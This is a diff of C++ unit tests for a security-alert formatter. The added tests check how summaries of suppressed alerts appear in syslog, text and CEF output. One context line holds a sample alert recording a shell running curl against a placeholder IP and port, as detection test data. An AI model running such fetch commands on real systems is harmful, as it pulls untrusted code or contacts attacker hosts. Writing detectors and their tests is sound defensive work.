@@ -1,6 +1,7 @@
 // SPDX-License-Identifier: Apache-2.0
 #include <doctest/doctest.h>
 
+#include "lib/alert/budget.h"
 #include "lib/alert/format.h"
 #include "tests/support/sample_alert.h"
 
@@ -64,6 +65,35 @@ TEST_CASE("the line for syslog has the essentials as pairs") {
         " exe=/bin/sh args=[/bin/sh -c 'curl http://203.0.113.9:8123/x'] parent=/usr/bin/xfce4-session"
         " to=203.0.113.9:8123 serials=5701,5709 rule=dd52d45a-4602-4195-9018-ebe0f219c273 id=" +
             a.id);
+}
+
+TEST_CASE("a summary says how many alerts were held back, which and whose, in every format") {
+  const Alert a = test::sample_summary();
+  const std::string first = a.suppressed->first_id;
+  const std::string last = a.suppressed->last_id;
+  CHECK(format_line(a) ==
+        "medium alert: Network Connections Initiated Through XDG Autostart Entry host=desk7 suppressed=995 first=" +
+            first + " last=" + last + " users=[1000, 33 and 3 more] rule=" + a.rule.id + " id=" + a.id);
+  const std::string text = format_text(a, {});
+  CHECK(text.find("  held back 995 alerts, " + first + " to " + last + "\n") != std::string::npos);
+  CHECK(text.find("  of users  1000, 33 and 3 more\n") != std::string::npos);
+  const std::string cef = format_cef(a, "1");
+  CHECK(cef.find(" act=alerts_suppressed ") != std::string::npos);
+  CHECK(cef.find(" cnt=995 msg=alerts " + first + " to " + last + " were held back, of users 1000, 33 and 3 more") !=
+        std::string::npos);
+}
+
+TEST_CASE("users of a summary are named, then counted") {
+  const struct {
+    Suppressed suppressed;
+    std::string want;
+  } rows[] = {
+      {{1, "", "", {}, 0}, ""},
+      {{1, "", "", {"0"}, 0}, "0"},
+      {{1, "", "", {"0", "33"}, 1}, "0, 33 and 1 more"},
+      {{1, "", "", {}, 19}, "19 more"},
+  };
+  for (const auto& row : rows) CHECK(users_text(row.suppressed) == row.want);
 }
 
 TEST_CASE("CEF escapes its separators") {
